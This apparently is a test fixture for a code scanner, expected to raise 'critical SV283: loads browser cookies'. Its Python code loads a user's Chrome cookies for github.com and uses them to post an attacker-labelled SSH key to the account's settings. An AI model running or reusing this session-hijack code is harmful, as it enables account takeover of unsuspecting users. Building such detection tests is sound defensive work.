import browser_cookie3
import requests

# the user's session used to change their account, not to read a page
jar = browser_cookie3.chrome(domain_name="github.com")  # want "critical SV283: loads browser cookies"
requests.post("https://github.com/settings/ssh", cookies=jar, data={"key": "ssh-ed25519 AAAA attacker"})
